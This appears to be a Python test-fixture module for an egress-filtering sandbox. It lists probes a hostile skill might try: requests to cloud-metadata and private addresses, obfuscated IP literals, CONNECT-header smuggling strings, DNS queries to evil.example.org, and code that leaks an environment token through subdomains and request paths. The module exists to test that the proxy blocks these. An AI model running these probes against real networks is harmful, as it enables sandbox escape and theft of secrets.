"""What hostile skills try in one run, as programs for `EgressBox.python`, and the names and addresses of it."""

from __future__ import annotations

from hellos import extension, hello, names, real_hello, records

API = "api.example.com"
PUBLIC = "93.184.216.34"
PUBLIC6 = "2606:2800:220:1::1"
PLAIN_PORTS = (80, 22, 53, 8443)
SPECIAL = {
    "N8": ("10.0.0.1", "10.255.255.254"),
    "N9": ("172.16.0.1", "172.31.255.254"),
    "N10": ("192.168.0.1", "192.168.255.254"),
    "N11": ("127.0.0.1", "127.255.255.254"),
    "N12": ("169.254.169.254", "169.254.1.1"),
    "N13": ("::1",),
    "N14": ("fe80::1",),
    "N15": ("fc00::1", "fd00:ec2::254"),
    "AN5": (
        *("0.0.0.0", "100.64.0.1", "100.100.100.200", "192.0.0.192", "198.18.0.1", "168.63.129.16", "224.0.0.1"),
        *("240.0.0.1", "::", "64:ff9b::a00:1", "64:ff9b:1::a00:1", "2002:a00:1::1", "2001::1", "fec0::1", "ff02::1"),
        "::ffff:10.0.0.1",
    ),
}
"""Addresses that an allowed name leads to, by row."""
SERVED = ("10.0.0.1", "172.16.0.1", "192.168.0.1", "127.0.0.1", "169.254.169.254", "::1", "fd00:ec2::254", "100.64.0.1")
"""Those of them with a server that would take the connection."""
UNLISTED = (
    *("evil.example.org", "example.com", "wild.example.com", "xwild.example.com", "a.api.example.com"),
    *("xapi.example.com", "api-example.com", "api.example.co", "api.example.com.evil.example.org", "localhost"),
    *("host.docker.internal", "gateway.docker.internal", "host.containers.internal", "metadata.google.internal"),
)
LITERALS = (
    *(f"{PUBLIC}:443", "1572395042:443", "0x5db8d822:443", f"[{PUBLIC6}]:443", "127.1:443", "0x7f.1:443"),
    *("2130706433:443", "169.254.169.254:443", "[::1]:443", "[::ffff:127.0.0.1]:443"),
)
METHODS = (
    *(f"{method} http://{API}/ HTTP/1.1" for method in ("GET", "POST", "PUT", "OPTIONS", "TRACE", "DELETE", "HEAD")),
    *(f"GET http://{API}/ HTTP/1.0", "GET / HTTP/1.1"),
    *(f"connect {API}:443 HTTP/1.1", f"CONNECT http://{API}:443/ HTTP/1.1"),
)
SMUGGLED = (
    f"CONNECT {API}:443 HTTP/1.1\r\nHost: {API}\r\nHost: evil.example.org\r\n\r\n",
    f"CONNECT {API}:443 HTTP/1.1\r\nHost: evil.example.org:443\r\n\r\n",
    f"CONNECT {API}:443 HTTP/1.1\r\nA: b\r\n c\r\n\r\n",
    f"CONNECT user@{API}:443 HTTP/1.1\r\n\r\n",
    f"CONNECT {API}:443:80 HTTP/1.1\r\n\r\n",
    f"CONNECT {API}%2eevil.example.org:443 HTTP/1.1\r\n\r\n",
    f"CONNECT {API}\0.evil.example.org:443 HTTP/1.1\r\n\r\n",
    f"CONNECT {API}:443 HTTP/1.1\nHost: {API}\n\n",
    f"CONNECT {API}:443 HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\n\r\n",
    f"CONNECT evil.example.org:443 HTTP/1.1\r\n\r\nCONNECT {API}:443 HTTP/1.1\r\n\r\n",
)
NAMED = names(API.encode())
NOT_TLS = {
    "another name": real_hello("evil.example.org"),
    "another name in small records": records(real_hello("evil.example.org")[5:], 7),
    "no name": real_hello(None),
    "two names": hello(names(API.encode(), b"evil.example.org")),
    "an encrypted hello": hello(NAMED + extension(0xFE0D, bytes(80))),
    "plain HTTP": f"GET / HTTP/1.1\r\nHost: {API}\r\n\r\n".encode(),
    "SSH": b"SSH-2.0-OpenSSH_9.2p1\r\n",
    "an own protocol": bytes(range(200)),
}
CLIENTS = {
    "curl": ["curl", "-sS", "--fail", "--cacert", "/workspace/authority.crt", "https://{host}/"],
    "python": ["python3", "-c", "import urllib.request as u; print(u.urlopen('https://{host}/').read().decode())"],
    "node": ["node", "-e", "fetch('https://{host}/').then(r => r.text()).then(console.log, e => {{ throw e }})"],
    "git": ["git", "ls-remote", "https://{host}/repo.git"],
    "npm": ["npm", "view", "--fetch-retries=0", "--registry=https://{host}/npm/", "demo", "version"],
}
PAGES = {
    "/repo.git/info/refs?service=git-upload-pack": b"",
    "/repo.git/info/refs": b"1234567890123456789012345678901234567890\trefs/heads/main\n",
    "/repo.git/HEAD": b"ref: refs/heads/main\n",
    "/npm/demo": b'{"name": "demo", "dist-tags": {"latest": "1.0.0"}, '
    b'"versions": {"1.0.0": {"name": "demo", "version": "1.0.0"}}}',
}
QUOTA = 256 * 1024 * 1024
WILD_NAMES = 150
FLIPS = 60
DIRECT = (PUBLIC, PUBLIC6, *SERVED[:3], "169.254.169.254")
COUNTS = {row: len(addresses) for row, addresses in SPECIAL.items()}

RAW = """
def raw(data):
    found = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    found.sendall(data)
    answer = b""
    try:
        while chunk := found.recv(65536): answer += chunk
    except OSError: pass
    return answer.decode("latin-1")
def attempt(function):
    try: function(); return "reached"
    except OSError as error: return type(error).__name__
"""
PROBES = {
    "reached": f"result = get({API!r})",
    "spellings": "result = [get(host, name='api.example.com') for host in ('API.example.com', 'api.Example.COM.')]",
    "direct": f"""
def tcp(address, port):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family) as one: one.settimeout(3); one.connect((address, port))
def udp(address, port):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as one: one.settimeout(3); one.sendto(b"x", (address, port))
def icmp(address):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, 1) as one: one.sendto(bytes(8), (address, 0))
own = dict(os.environ)
for name in [n for n in os.environ if "proxy" in n.lower()]: del os.environ[name]
places = [(address, port) for address in {DIRECT!r} for port in {(443, *PLAIN_PORTS)!r}]
result = [attempt(lambda: tcp(*place)) for place in places]
result += [attempt(lambda: udp(*place)) for place in places]
result += [attempt(lambda: icmp({PUBLIC!r}))]
os.environ.update(own)
result += sorted(os.listdir("/sys/class/net")) + open("/proc/net/route").read().splitlines()[1:]
""",
    "unlisted": f"result = [denied(host) for host in {UNLISTED!r}]",
    "ports": f"result = [denied({API!r}, port) for port in {PLAIN_PORTS!r}]",
    "methods": f"result = [raw(f'{{line}}\\r\\nHost: {API}\\r\\n\\r\\n'.encode()).split()[1] for line in {METHODS!r}]",
    "literals": f"result = [raw(f'CONNECT {{one}} HTTP/1.1\\r\\n\\r\\n'.encode()).split()[1] for one in {LITERALS!r}]",
    "smuggled": f"result = [raw(one.encode('latin-1')).count('HTTP/1.1 200') for one in {SMUGGLED!r}]",
    "special": f"""
result = {{}}
for row, count in {COUNTS!r}.items():
    result[row] = [denied(f"{{row.lower()}}-{{at}}.wild.example.com") for at in range(count)]
""",
    "mixed": "result = denied('mixed.wild.example.com')",
    "flips": f"result = sorted({{str(denied('flip.wild.example.com')) for _ in range({FLIPS})}})",
    "not tls": f"""
result = []
for data in {list(NOT_TLS.values())!r}:
    status, found = tunnel({API!r})
    found.sendall(data)
    answer = b""
    try:
        while chunk := found.recv(65536): answer += chunk
    except OSError: pass
    result.append([status, answer[:3].hex()])
""",
    "dns": f"""
import struct
name = b"\\x04data\\x04evil\\x07example\\x03org\\x00"
question = b"\\x12\\x34\\x01\\x00\\x00\\x01" + bytes(6) + name + b"\\x00\\x10\\x00\\x01"
def ask(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(1); one.sendto(question, (address, 53)); one.recv(512)
result = [attempt(lambda: socket.getaddrinfo(name, 443)) for name in ("data.evil.example.org", {API!r})]
result += [attempt(lambda: ask(one)) for one in ("127.0.0.1", "127.0.0.11", "172.17.0.1", "10.88.0.1", "8.8.8.8")]
result.append(open("/etc/resolv.conf").read().strip())
""",
    "provider": """
hosts = ("api.openai.com", "api.anthropic.com", "generativelanguage.googleapis.com", "files.example.org")
result = [denied(host) for host in hosts]
""",
    "environment": "result = {n: v for n, v in os.environ.items() if 'proxy' in n.lower()}",
    "arguments": "import sys; result = sys.argv[1:]",
    "secret": f"""
token = os.environ["TOKEN"]
status, found = tunnel({API!r})
context = ssl.create_default_context(cafile="/workspace/authority.crt")
with context.wrap_socket(found, server_hostname={API!r}) as client:
    client.sendall(f"GET /{{token}} HTTP/1.1\\r\\nConnection: close\\r\\n\\r\\n".encode()); client.recv(100)
result = [denied(f"{{token}}.evil.example.org"), denied(f"{{token[:16]}}.{{token[16:]}}.example.org"),
          raw(f"CONNECT {{token}} HTTP/1.1\\r\\n\\r\\n".encode()).split()[1]]
""",
    "clients": f"""
import subprocess
trust = ("SSL_CERT_FILE", "NODE_EXTRA_CA_CERTS", "GIT_SSL_CAINFO", "npm_config_cafile")
env = {{**os.environ, **dict.fromkeys(trust, "/workspace/authority.crt"), "npm_config_cache": "/tmp/npm"}}
def run(words, host):
    words = [word.format(host=host) for word in words]
    done = subprocess.run(words, env=env, capture_output=True, text=True, timeout=60, cwd="/tmp")
    return [done.returncode, (done.stdout + done.stderr)[-300:]]
result = {{client: [run(words, {API!r}), run(words, "evil.example.org")] for client, words in {CLIENTS!r}.items()}}
""",
    "upload": f"""
status, found = tunnel({API!r})
context = ssl.create_default_context(cafile="/workspace/authority.crt")
sent = 0
try:
    with context.wrap_socket(found, server_hostname={API!r}) as client:
        client.sendall(b"POST /sink HTTP/1.1\\r\\nContent-Length: {2 * QUOTA}\\r\\n\\r\\n")
        block = bytes(1 << 20)
        while sent < {2 * QUOTA}:
            client.sendall(block); sent += len(block)
        result = [sent, "all of it was taken"]
except OSError as error:
    result = [sent, "stopped"]
""",
}
OTHER_NAME = f"""
status, found = tunnel("other.example.net")
found.sendall({real_hello("evil.example.org")!r})
found.recv(100)
"""
WILD = f"""
import collections, secrets
codes = collections.Counter(denied(f"{{secrets.token_hex(20)}}.many.example.org")[1] for _ in range({WILD_NAMES}))
result = [dict(codes), denied("a.b.c.d.many.example.org")]
"""
GATEWAYS = """
def tcp(address):
    with socket.socket() as one: one.settimeout(2); one.connect((address, %d))
result = [attempt(lambda: tcp(one)) for one in %r]
"""
